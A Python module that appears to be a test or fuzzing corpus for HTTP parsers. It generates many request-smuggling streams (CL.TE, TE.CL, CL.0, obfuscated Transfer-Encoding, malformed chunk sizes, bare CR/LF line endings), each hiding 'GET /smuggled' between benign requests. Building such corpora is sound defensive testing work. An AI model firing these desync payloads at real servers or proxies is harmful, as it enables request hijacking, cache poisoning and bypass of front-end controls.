"""Ways to send one request inside another, by family: each stream smuggles GET /smuggled past a careless reader.

Every stream begins with a harmless request and ends with one, so that it is also seen whether the
connection goes on in step.
"""

from __future__ import annotations

from collections.abc import Iterator

FIRST = b"GET /first HTTP/1.1\r\nHost: a\r\n\r\n"
LAST = b"GET /last HTTP/1.1\r\nHost: a\r\n\r\n"
SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
IN_A_CHUNK = b"%x\r\n%s\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED)
LENGTH = b"Content-Length: %d\r\n" % len(SMUGGLED)
CHUNKED = b"Transfer-Encoding: chunked\r\n"


def post(fields: bytes, body: bytes, method: bytes = b"POST", version: bytes = b"HTTP/1.1") -> bytes:
    """The request that carries the other one; `fields` are whole lines."""
    return method + b" /carrier " + version + b"\r\nHost: a\r\n" + fields + b"\r\n" + body


def corpus() -> dict[str, bytes]:
    """All streams by name."""
    return {
        f"{family}: {name}": FIRST + stream + LAST
        for family, members in FAMILIES.items()
        for name, stream in members()
    }


def _length_against_coding() -> Iterator[tuple[str, bytes]]:
    short = b"Content-Length: 4\r\n"
    yield "CL.TE", post(b"Content-Length: %d\r\n" % (5 + len(SMUGGLED)) + CHUNKED, b"0\r\n\r\n" + SMUGGLED)
    yield "TE.CL", post(CHUNKED + short, b"%x\r\n%s\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED))
    yield "CL.0 on GET", post(LENGTH, SMUGGLED, method=b"GET")
    yield "CL.0 on POST", post(LENGTH, SMUGGLED)
    yield "CL.0 on OPTIONS", post(LENGTH, SMUGGLED, method=b"OPTIONS")
    yield "CL.0 on HEAD", post(LENGTH, SMUGGLED, method=b"HEAD")
    yield "CL.0 on TRACE", post(LENGTH, SMUGGLED, method=b"TRACE")
    yield "0.CL", post(b"Content-Length : %d\r\n" % len(SMUGGLED), SMUGGLED)
    yield "TE.0", post(CHUNKED, IN_A_CHUNK, method=b"OPTIONS")
    yield "HTTP/1.0 with coding", post(CHUNKED, b"0\r\n\r\n" + SMUGGLED, version=b"HTTP/1.0")
    yield "HTTP/1.0 with both", post(CHUNKED + LENGTH, b"0\r\n\r\n" + SMUGGLED, version=b"HTTP/1.0")
    yield (
        "HTTP/1.0 kept alive",
        post(b"Connection: keep-alive\r\n" + CHUNKED, b"0\r\n\r\n" + SMUGGLED, version=b"HTTP/1.0"),
    )


def _lengths() -> Iterator[tuple[str, bytes]]:
    size = len(SMUGGLED)
    for value in (
        b"%d, %d" % (size, size),
        b"0, %d" % size,
        b"+%d" % size,
        b"-%d" % size,
        b"-0",
        b"0x%x" % size,
        b"0%d" % size,
        b"%d.0" % size,
        b"%de0" % size,
        b"%d " % size + b"0",
        b"%d;x" % size,
        b"3_5",
        b"\x0b%d" % size,
        b"%d\x0c" % size,
        b"\xa0%d" % size,
        b"\x85%d" % size,
        b'"%d"' % size,
        b"",
        b" ",
        b"%d" % (2**64 + size),
        b"%d" % (2**32 + size),
        b"9" * 30,
    ):
        yield repr(value), post(b"Content-Length: " + value + b"\r\n", SMUGGLED)
    yield "twice, first 0", post(b"Content-Length: 0\r\n" + LENGTH, SMUGGLED)
    yield "twice, last 0", post(LENGTH + b"Content-Length: 0\r\n", SMUGGLED)
    yield "folded", post(b"Content-Length:\r\n %d\r\n" % size, SMUGGLED)
    yield "under another name", post(b"Content_Length: %d\r\n" % size, SMUGGLED)
    yield "with a tab", post(b"Content-Length:\t%d\t\r\n" % size, SMUGGLED)
    yield "behind a bare CR", post(b"X: y\rContent-Length: %d\r\n" % size, SMUGGLED)
    yield "behind a bare LF", post(b"X: y\nContent-Length: %d\r\n" % size, SMUGGLED)
    yield "behind NUL", post(b"X: y\0Content-Length: %d\r\n" % size, SMUGGLED)
    yield "named by Connection", post(b"Connection: Content-Length\r\n" + LENGTH, SMUGGLED)


def _codings() -> Iterator[tuple[str, bytes]]:
    for line in (
        b"Transfer-Encoding: xchunked",
        b"Transfer-Encoding : chunked",
        b"Transfer-Encoding\t:chunked",
        b"Transfer-Encoding:\tchunked",
        b"Transfer-Encoding:\x0bchunked",
        b"Transfer-Encoding:\x0cchunked",
        b"Transfer-Encoding: \x00chunked",
        b"Transfer-Encoding: chunked\x00",
        b"Transfer-Encoding: \xffchunked",
        b"Transfer-Encoding: \xa0chunked",
        b"Transfer-Encoding: \x85chunked",
        b"Transfer-Encoding: chunked, identity",
        b"Transfer-Encoding: identity, chunked",
        b"Transfer-Encoding: chunked, chunked",
        b"Transfer-Encoding: identity",
        b"Transfer-Encoding: cow",
        b'Transfer-Encoding: "chunked"',
        b"Transfer-Encoding: 'chunked'",
        b"Transfer-Encoding: chunked;q=0.1",
        b"Transfer-Encoding: chunked;",
        b"Transfer-Encoding: ,chunked",
        b"Transfer-Encoding:",
        b"Transfer-Encoding:\r\n chunked",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
        b"Transfer-Encoding: x\r\n chunked",
        b"Transfer_Encoding: chunked",
        b"Transfer.Encoding: chunked",
        b" Transfer-Encoding: chunked",
        b"X: y\r\n Transfer-Encoding: chunked",
        b"X: y\nTransfer-Encoding: chunked",
        b"X: y\rTransfer-Encoding: chunked",
        b"\x00Transfer-Encoding: chunked",
        b"Transfer-Encoding chunked",
        b"Transfer-Encoding:: chunked",
        b"tRaNsFeR-eNcOdInG: cHuNkEd",
    ):
        yield repr(line) + " alone", post(line + b"\r\n", b"0\r\n\r\n" + SMUGGLED)
        both = b"Content-Length: %d\r\n" % (5 + len(SMUGGLED))
        yield repr(line) + " with a length", post(both + line + b"\r\n", b"0\r\n\r\n" + SMUGGLED)


def _chunks() -> Iterator[tuple[str, bytes]]:
    size = len(SMUGGLED)
    for line in (
        b"+%x" % size,
        b"-%x" % size,
        b"0x%x" % size,
        b" %x" % size,
        b"%x " % size,
        b"%x\t" % size,
        b"%x\x0b" % size,
        b"%x\xa0" % size,
        b"2_3",
        b"%x_" % size,
        b"100000000%07x" % size,
        b"1%08x" % size,
        b"%x;" % size,
        b"%x;a\n" % size,
        b"%x;\n" % size,
        b"%x\n" % size,
        b"%x\r" % size,
        b"%x;a\r" % size,
        b'%x;a="\r\n' % size,
        b"%x;a=\x00" % size,
        b"%x ;a" % size,
        b"%x;a=b" % size,
        b"%016x" % size,
        b"%08x" % size,
        b"g",
        b"",
    ):
        yield "size line " + repr(line), post(CHUNKED, line + b"\r\n" + SMUGGLED + b"\r\n0\r\n\r\n")
    for end in (
        b"0\n\n",
        b"0\r\n\n",
        b"0\n\r\n",
        b"0\r\r\n",
        b"0\r\n\r\r\n",
        b"00000\r\n\r\n",
        b"0;a\r\n\r\n",
    ):
        yield "last chunk " + repr(end), post(CHUNKED, b"1\r\nx\r\n" + end + SMUGGLED)
    for data in (b"1\r\nx0\r\n\r\n", b"1\r\nx\n0\r\n\r\n", b"1\r\nx\r0\r\n\r\n", b"1\r\nxxx\r\n0\r\n\r\n"):
        yield "chunk data " + repr(data), post(CHUNKED, data + SMUGGLED)
    yield "an extension that hides a chunk", post(CHUNKED, b"1;\nxx\r\n%x\r\n0\r\n\r\n" % size + SMUGGLED)
    yield "an extension with CR in it", post(CHUNKED, b"1;a\rb\r\nx\r\n0\r\n\r\n" + SMUGGLED)
    for trailer in (
        LENGTH,
        CHUNKED,
        b"Host: b\r\n",
        b"X: y\n\r\n",
        b" folded\r\n",
        b"X : y\r\n",
        b"X\r\n",
        b"X: y\r\r\n",
        b"X: y\r\n",
        b"GET /smuggled HTTP/1.1\r\nX: y\r\n",
    ):
        yield "trailer " + repr(trailer), post(CHUNKED, b"0\r\n" + trailer + b"\r\n" + SMUGGLED)


def _lines() -> Iterator[tuple[str, bytes]]:
    yield "LF ends a head", b"GET /carrier HTTP/1.1\nHost: a\n\n" + SMUGGLED
    yield "LF ends a head in the end", b"GET /carrier HTTP/1.1\r\nHost: a\r\nX: y\n\n" + SMUGGLED
    yield "LF CR LF", b"GET /carrier HTTP/1.1\r\nHost: a\r\nX: y\n\r\n" + SMUGGLED
    yield "CR ends a head", b"GET /carrier HTTP/1.1\rHost: a\r\r" + SMUGGLED
    yield "CR CR LF", b"GET /carrier HTTP/1.1\r\nHost: a\r\r\n\r\n" + SMUGGLED
    yield "space before the request line", b" " + SMUGGLED
    yield "NUL before the request line", b"\0" + SMUGGLED
    yield "LF before the request line", b"\n" + SMUGGLED
    yield "CR before the request line", b"\r" + SMUGGLED
    yield "empty lines before the request line", b"\r\n\r\n\r\n" + SMUGGLED
    yield "a request line without a version", b"GET /smuggled\r\n"
    yield "a request line with tabs", b"GET\t/smuggled\tHTTP/1.1\r\nHost: a\r\n\r\n"
    yield "a request line with two spaces", b"GET  /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
    yield "a request line with a space at its end", b"GET /smuggled HTTP/1.1 \r\nHost: a\r\n\r\n"
    yield (
        "a request line in a value",
        b"GET /carrier HTTP/1.1\r\nHost: a\r\nX: GET /smuggled HTTP/1.1\r\n\r\n",
    )
    yield "HTTP/1.2", b"GET /smuggled HTTP/1.2\r\nHost: a\r\n\r\n"
    yield "HTTP/2.0", b"GET /smuggled HTTP/2.0\r\nHost: a\r\n\r\n"
    yield "a small version", b"GET /smuggled http/1.1\r\nHost: a\r\n\r\n"
    yield "a small method", b"get /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
    yield "the HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    yield "CONNECT", b"CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\n\r\n" + SMUGGLED
    yield (
        "h2c",
        post(
            b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n", SMUGGLED
        ),
    )


def _hosts_and_targets() -> Iterator[tuple[str, bytes]]:
    for target in (
        b"/smuggled#",
        b"/smuggled\x00",
        b"/smuggled\xff",
        b"http://b/smuggled",
        b"http://a@b/smuggled",
        b"https://a/smuggled",
        b"a/smuggled",
        b"*",
        b"/smuggled HTTP/1.1",
        b"/smuggled\x0bx",
    ):
        yield "target " + repr(target), b"GET " + target + b" HTTP/1.1\r\nHost: a\r\n\r\n"
    for fields in (
        b"",
        b"Host:\r\n",
        b"Host: a\r\nHost: b\r\n",
        b"Host: a, b\r\n",
        b"Host: a b\r\n",
        b"Host: a/b\r\n",
        b"Host: a\xff\r\n",
        b"Host: a:x\r\n",
        b"Host : a\r\n",
        b" Host: a\r\n",
        b"Host: a\r\n b\r\n",
    ):
        yield "fields " + repr(fields), b"GET /smuggled HTTP/1.1\r\n" + fields + b"\r\n"


def _expect_and_upgrade() -> Iterator[tuple[str, bytes]]:
    yield "a body held back", post(b"Expect: 100-continue\r\n" + LENGTH, SMUGGLED)
    yield "a body held back, in chunks", post(b"Expect: 100-continue\r\n" + CHUNKED, IN_A_CHUNK)
    yield "another expectation", post(b"Expect: 100-continue, x\r\n" + LENGTH, SMUGGLED)
    yield "an expectation with a space", post(b"Expect: y 100-continue\r\n" + LENGTH, SMUGGLED)
    yield "an upgrade with a body", post(b"Connection: Upgrade\r\nUpgrade: websocket\r\n" + LENGTH, SMUGGLED)
    yield "an upgrade that is declined", post(b"Connection: Upgrade\r\nUpgrade: x\r\n", b"", method=b"GET")
    yield "close, and more behind it", post(b"Connection: close\r\n", SMUGGLED, method=b"GET")


FAMILIES = {
    "length against coding": _length_against_coding,
    "Content-Length": _lengths,
    "Transfer-Encoding": _codings,
    "chunks": _chunks,
    "lines": _lines,
    "host and target": _hosts_and_targets,
    "Expect and Upgrade": _expect_and_upgrade,
}
